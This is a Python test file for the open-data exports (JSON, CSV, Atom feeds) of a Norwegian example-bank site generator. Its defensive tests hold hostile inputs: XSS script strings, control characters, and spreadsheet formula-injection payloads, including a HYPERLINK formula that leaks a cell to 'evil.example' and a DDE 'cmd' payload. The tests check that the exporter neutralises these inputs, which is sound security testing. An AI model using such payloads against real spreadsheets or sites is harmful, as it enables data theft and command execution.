"""Open data and feeds: validated against their documented schema, counted against the data."""
from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET

import jsonschema

import tempfile
from pathlib import Path

from conftest import ROOT, TODAY, fixture_bank

from generator import exports
from generator.pipeline import load_bank
from generator.base.settings import Settings

ATOM = "{http://www.w3.org/2005/Atom}"


def bank():
    root = Path(tempfile.mkdtemp())
    return load_bank(Settings(root=root, bank_dir=fixture_bank(root), docs_dir=ROOT / "content",
                              today=TODAY))


def documented_fields() -> list[str]:
    """The field table of the page «Åpne data», in order."""
    text = (ROOT / "content" / "apne-data.md").read_text(encoding="utf-8")
    section = text.split("## Feltene", 1)[1].split("## ", 1)[0]
    return re.findall(r"^\| `([a-z_]+)` \|", section, flags=re.M)


def test_json_validates_against_the_schema_and_counts(fixture_site):
    data = json.loads((fixture_site / "eksempler.json").read_text(encoding="utf-8"))
    schema = json.loads((fixture_site / "eksempler.schema.json").read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.validate(data, schema, format_checker=jsonschema.FormatChecker())
    b = bank()
    assert data["skjemaversjon"] == exports.SCHEMA_VERSION
    assert data["antall"] == len(data["eksempler"]) == len(b.examples) == 5
    tydal = next(e for e in data["eksempler"] if e["slug"] == "tydal-kafe-posten")
    assert tydal["kommuner"] == [{"nummer": "5033", "navn": "Tydal"}]
    assert tydal["regioner"] == [{"slug": "trondelag", "navn": "Trøndelag"}]
    assert tydal["url"] == "https://leve-hele-livet.github.io/erfaringsbank/eksempler/tydal-kafe-posten/"
    assert tydal["syntetisk"] is False
    # every example's url is a page of the site
    for e in data["eksempler"]:
        assert (fixture_site / e["url"].split("/erfaringsbank/", 1)[1] / "index.html").exists()


def test_schema_rejects_a_broken_record(fixture_site):
    data = json.loads((fixture_site / "eksempler.json").read_text(encoding="utf-8"))
    schema = json.loads(exports.SCHEMA_FILE.read_text(encoding="utf-8"))
    data["eksempler"][0]["status"] = "ferdig"
    try:
        jsonschema.validate(data, schema)
    except jsonschema.ValidationError as exc:
        assert "ferdig" in exc.message
    else:
        raise AssertionError("the schema must reject an unknown status")


def test_csv_has_the_documented_columns_and_matches_the_json(fixture_site):
    fields = documented_fields()
    assert tuple(fields) == exports.csv_fields(bank())
    with open(fixture_site / "eksempler.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert list(rows[0].keys()) == fields
    data = json.loads((fixture_site / "eksempler.json").read_text(encoding="utf-8"))
    assert [r["slug"] for r in rows] == [e["slug"] for e in data["eksempler"]]
    for row, rec in zip(rows, data["eksempler"]):
        assert row["skjemaversjon"] == exports.SCHEMA_VERSION
        assert row["kommunenummer"].split("; ") == [k["nummer"] for k in rec["kommuner"]]
        assert row["innsatsomrader"].split("; ") == rec["innsatsomrader"]
        assert row["syntetisk"] == ("ja" if rec["syntetisk"] else "nei")
    heroy = next(r for r in rows if r["slug"] == "syntetisk-heroy-dagsenter")
    assert heroy["kommunenummer"] == "1818" and heroy["fylker"] == "Nordland"


def test_atom_feeds(fixture_site):
    b = bank()
    feed = ET.parse(fixture_site / "feed.xml").getroot()
    assert feed.tag == f"{ATOM}feed"
    entries = feed.findall(f"{ATOM}entry")
    assert [e.find(f"{ATOM}title").text for e in entries] == [x.tittel for x in b.examples]
    for entry in entries:
        for tag in ("id", "updated", "link", "summary"):
            assert entry.find(f"{ATOM}{tag}") is not None
    for slug in b.reference.innsatsomrader:
        per = ET.parse(fixture_site / "feed" / f"{slug}.xml").getroot()
        titles = [e.find(f"{ATOM}title").text for e in per.findall(f"{ATOM}entry")]
        assert titles == [x.tittel for x in b.tagged("innsatsomrade", slug)], slug


def test_feed_is_capped():
    b = bank()
    many = b.examples * 20
    feed = ET.fromstring(exports.atom_feed(b, many, title="t", feed_path="feed.xml"))
    assert len(feed.findall(f"{ATOM}entry")) == exports.FEED_SIZE
    assert feed.find(f"{ATOM}id").text == "urn:erfaringsbank:feed.xml"


def test_open_data_page_links_and_sitemap(fixture_site):
    html = (fixture_site / "apne-data" / "index.html").read_text(encoding="utf-8")
    for target in ("../eksempler.json", "../eksempler.csv", "../feed.xml", "CC BY 4.0", "© Kartverket",
                   "Statistisk sentralbyrå"):
        assert target in html
    sitemap = (fixture_site / "sitemap.xml").read_text(encoding="utf-8")
    assert "<loc>https://leve-hele-livet.github.io/erfaringsbank/eksempler/tydal-kafe-posten/</loc>" in sitemap
    # No <link rel="alternate"> in page heads: mkdocs-material would fetch the whole sitemap.xml
    # on every page view (≈ 1 MB at 5 000 examples). The feeds are linked visibly instead.
    home = (fixture_site / "index.html").read_text(encoding="utf-8")
    assert 'rel="alternate"' not in home
    io = (fixture_site / "innsatsomrader" / "helsehjelp" / "index.html").read_text(encoding="utf-8")
    assert "../../feed/helsehjelp.xml" in io


make_bank = bank


def test_json_and_csv_made_per_example_equal_whole_document_encoding():
    """examples_json / examples_csv assemble the text one example at a time (so `serve` can reuse
    unchanged examples): it must be exactly what encoding the whole document at once gives —
    with and without the memo, and after an example changes."""
    import io
    from dataclasses import replace
    bank = make_bank()
    whole = json.dumps({"skjemaversjon": exports.SCHEMA_VERSION, "lisens": exports.LICENCE,
                        "lisens_url": exports.LICENCE_URL, "antall": len(bank.examples),
                        "eksempler": [exports.record(bank, e, "https://x.no/") for e in bank.examples]},
                       ensure_ascii=False, indent=1) + "\n"
    out = io.StringIO()
    out.write(exports.BOM)
    w = csv.DictWriter(out, fieldnames=exports.csv_fields(bank), lineterminator="\r\n")
    w.writeheader()
    for e in bank.examples:
        w.writerow(exports.csv_row(bank, e, exports.record(bank, e, "https://x.no/")))
    assert len(bank.examples) >= 5
    assert exports.examples_json(bank, "https://x.no/") == whole
    assert exports.examples_csv(bank, "https://x.no/") == out.getvalue()
    memo = exports.RecordMemo()
    for _ in range(2):
        files = {f.path: f.content for f in exports.generate(bank, "https://x.no/", memo)}
        assert files["eksempler.json"] == whole and files["eksempler.csv"] == out.getvalue()
    bank.examples[3] = replace(bank.examples[3], tittel="Endret tittel")
    files = {f.path: f.content for f in exports.generate(bank, "https://x.no/", memo)}
    assert json.loads(files["eksempler.json"])["eksempler"][3]["tittel"] == "Endret tittel"
    assert "Endret tittel" in files["eksempler.csv"]
    from generator.model import Bank
    empty = exports.examples_json(Bank(bank.reference, []))
    assert empty == json.dumps({"skjemaversjon": exports.SCHEMA_VERSION, "lisens": exports.LICENCE,
                                "lisens_url": exports.LICENCE_URL, "antall": 0, "eksempler": []},
                               ensure_ascii=False, indent=1) + "\n"


# -- untrusted text in the exports (issue 14) --------------------------------------------------

# What a file of open data must never hold: control characters (but tab, line feed, carriage
# return), lone surrogates, U+FFFE/U+FFFF (XML 1.0 forbids them; UTF-8 cannot encode surrogates).
UNSAFE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]")
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def hostile_bank(**fields):
    """The test bank with its first example's fields replaced directly — past the field readers,
    which already refuse control characters: the exporter must hold on its own."""
    from dataclasses import replace
    b = make_bank()
    b.examples[0] = replace(b.examples[0], **fields)
    return b


def well_formed_feed(text: str) -> ET.Element:
    """Parse as a strict XML 1.0 parser does (expat: any forbidden character is an error)."""
    assert not UNSAFE.search(text)
    text.encode("utf-8")
    return ET.fromstring(text.encode("utf-8"))


def test_control_characters_never_reach_a_feed_or_file():
    from generator.model import Kilde
    dirty = "Kafe\x00 \x01Posten\x08\x0b\x0c\x1b[31m\x7f\x85\x9f\ud800\ufffe\uffff"
    b = hostile_bank(tittel=dirty, sammendrag="Slutt\x02 på\x1f setningen.",
                     kontakt="Rolle\x03", kilder=(Kilde(tittel="Kilde\x04", url="https://x.no/\x05"),))
    e = b.examples[0]
    for feed_path, examples in (("feed.xml", b.examples),
                                ("feed/x.xml", [e for e in b.examples if "\x00" in e.tittel])):
        feed = well_formed_feed(exports.atom_feed(b, examples, title="T\x06", feed_path=feed_path,
                                                  site_url="https://x.no/"))
        first = feed.find(f"{ATOM}entry")
        assert first.find(f"{ATOM}title").text == "Kafe Posten[31m"
        assert "Slutt på setningen." in first.find(f"{ATOM}summary").text
        assert feed.find(f"{ATOM}title").text == "T"
    files = {f.path: f.content for f in exports.generate(b, "https://x.no/")}
    assert set(files) >= {"eksempler.json", "eksempler.csv", "feed.xml"}
    for path, text in files.items():
        assert not UNSAFE.search(text), path
        text.encode("utf-8")
        if path.endswith(".xml"):
            well_formed_feed(text)
    rec = next(r for r in json.loads(files["eksempler.json"])["eksempler"] if r["slug"] == e.slug)
    assert (rec["tittel"], rec["sammendrag"], rec["kontakt"]) == (
        "Kafe Posten[31m", "Slutt på setningen.", "Rolle")
    assert rec["kilder"][0]["tittel"] == "Kilde" and rec["kilder"][0]["url"] == "https://x.no/"


def test_feeds_escape_markup_and_hostile_site_url():
    b = hostile_bank(tittel='Kafe <script>alert(1)</script> & "Posten" ]]> \'x\'',
                     sammendrag="<![CDATA[ x ]]> &amp; <b>fet</b>")
    site_url = 'https://x.no/"><script>alert(2)</script>/'
    feed = well_formed_feed(exports.atom_feed(b, b.examples, title="T", feed_path="feed.xml",
                                              site_url=site_url))
    entry = feed.find(f"{ATOM}entry")
    assert entry.find(f"{ATOM}title").text == b.examples[0].tittel
    assert entry.find(f"{ATOM}summary").text.endswith("<![CDATA[ x ]]> &amp; <b>fet</b>")
    assert entry.find(f"{ATOM}link").get("href").startswith(site_url.rstrip("/"))
    assert not feed.findall(".//script") and not feed.findall(f".//{ATOM}script")


def spreadsheet_cells(field: str) -> list[str]:
    """The cells a spreadsheet may make of one CSV field: the field itself, and each part after a
    semicolon (Excel with Norwegian settings splits a .csv file on «;»), leading spaces dropped."""
    return [field] + [part.lstrip(" \t") for part in field.split(";")[1:]]


def test_csv_formulas_are_neutralised_and_read_back_as_the_text():
    from dataclasses import replace
    from generator.model import Kilde
    starts = ['=HYPERLINK("https://evil.example/?"&A1;"klikk")', "+47 22 00 00 00",
              "-5 % færre fall", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTab først", "\rCR først"]
    b = make_bank()
    for i, e in enumerate(b.examples):   # every formula start, in a title or a summary
        b.examples[i] = replace(e, tittel=starts[i % 6], sammendrag=starts[(i + 3) % 6])
    b.examples[0] = replace(b.examples[0], kontakt="Rolle;=1+1",
                            kilder=(Kilde(tittel="=cmd", url="https://x.no/"),
                                    Kilde(tittel="Rapport; -2 %")))
    assert {e.tittel for e in b.examples} | {e.sammendrag for e in b.examples} == set(starts)
    text = exports.examples_csv(b, "https://x.no/")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    data = json.loads(exports.examples_json(b, "https://x.no/"))["eksempler"]
    assert len(rows) == len(data) == len(b.examples)
    for row, rec in zip(rows, data):
        for field, value in row.items():
            for cell in spreadsheet_cells(value):
                assert not cell.startswith(FORMULA), (field, value)
        # The JSON keeps the text; the CSV only adds a ' before the formula character, and a
        # reader who drops it (as «Åpne data» says) has the text back.
        assert row["tittel"] == "'" + rec["tittel"]
        assert row["sammendrag"] == "'" + rec["sammendrag"]
        for field in ("tittel", "sammendrag", "kontakt"):
            assert unquote(row[field]) == (rec[field] or "")
    first = rows[0]
    assert first["kontakt"] == "Rolle;'=1+1"
    assert first["kilder"] == "'=cmd <https://x.no/>; Rapport; '-2 %"
    assert exports.csv_safe("Flere; -2 % og ;@x") == "Flere; '-2 % og ;'@x"
    # Ordinary text, dates, numbers and URLs are untouched.
    for plain in ("Tydal; Ulstein", "2021-12-01", "5033", "a - b, c + d = e @ f", "https://x.no/",
                  "E-post: rolle@kommune.no", "Kafe Posten – møteplass"):
        assert exports.csv_safe(plain) == plain


def unquote(field: str) -> str:
    """What a reader of the CSV does to get the text back (content/apne-data.md): drop the '
    before a formula character at the start of the field and after a semicolon."""
    field = field[1:] if field[:1] == "'" and field[1:2] in FORMULA else field
    return re.sub(r"(;[ \t]*)'(?=[=+\-@])", r"\1", field)


def test_every_feed_and_file_of_the_built_site_is_well_formed(fixture_site):
    feeds = [fixture_site / "feed.xml", *sorted((fixture_site / "feed").glob("*.xml"))]
    assert len(feeds) == 1 + len(bank().reference.innsatsomrader)
    for path in feeds:
        well_formed_feed(path.read_text(encoding="utf-8"))
    for name in ("eksempler.json", "eksempler.csv", "eksempler.schema.json", "sitemap.xml"):
        text = (fixture_site / name).read_text(encoding="utf-8")
        assert not UNSAFE.search(text), name
    with open(fixture_site / "eksempler.csv", encoding="utf-8-sig", newline="") as f:
        for row in csv.DictReader(f):
            for field, value in row.items():
                assert not any(c.startswith(FORMULA) for c in spreadsheet_cells(value)), field


def test_both_csv_files_open_in_a_spreadsheet_with_aeoeaa_intact(fixture_site):
    """What Excel in Norway does with a double-clicked CSV file: a byte order mark makes it read
    UTF-8 (without one: the legacy code page, æøå garbled), and it splits on its list separator
    «;». eksempler.csv (RFC 4180, comma) and eksempler-excel.csv («;») hold the same rows."""
    tables = {}
    for name, delimiter in (("eksempler.csv", ","), ("eksempler-excel.csv", ";")):
        raw = (fixture_site / name).read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf"), name
        text = raw.decode("utf-8-sig")
        # the dialect a spreadsheet would guess from the header line is the intended one
        assert csv.Sniffer().sniff(text.split("\r\n", 1)[0], delimiters=",;").delimiter == delimiter
        tables[name] = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    assert tables["eksempler.csv"] == tables["eksempler-excel.csv"]
    assert any("ø" in cell or "å" in cell or "æ" in cell
               for row in tables["eksempler.csv"][1:] for cell in row)
    assert len(tables["eksempler.csv"]) == 1 + len(json.loads(
        (fixture_site / "eksempler.json").read_text(encoding="utf-8"))["eksempler"])


def test_serve_remakes_only_the_feeds_that_list_an_edited_example():
    """RecordMemo.feed: serve keeps a feed whose examples are the same objects as last time;
    every file is still what a build without the memo makes."""
    from dataclasses import replace

    from generator.model import Bank, urls
    bank = make_bank()
    memo = exports.RecordMemo()
    first = {f.path: f.content for f in exports.generate(bank, "https://x.no/", memo)}
    assert first == {f.path: f.content for f in exports.generate(bank, "https://x.no/")}
    feeds = [p for p in first if p.endswith(".xml")]
    assert len(feeds) == 6  # all examples, and one per innsatsområde

    changed = bank.examples[0]
    examples = [replace(e, tittel="Endret tittel") if e is changed else e for e in bank.examples]
    edited = Bank(bank.reference, examples)
    second = {f.path: f.content for f in exports.generate(edited, "https://x.no/", memo)}
    assert second == {f.path: f.content for f in exports.generate(edited, "https://x.no/")}
    listing = {p for p in feeds if "Endret tittel" in second[p]}
    assert urls.feed() in listing and len(listing) == 1 + len(changed.innsatsomrader)
    assert set(feeds) - listing
    for path in set(feeds) - listing:
        assert second[path] is first[path]  # kept, not made again
    # another address: every feed names it, so every feed is made again
    third = {f.path: f.content for f in exports.generate(edited, "https://y.no/", memo)}
    assert all("https://y.no/" in third[p] for p in feeds)
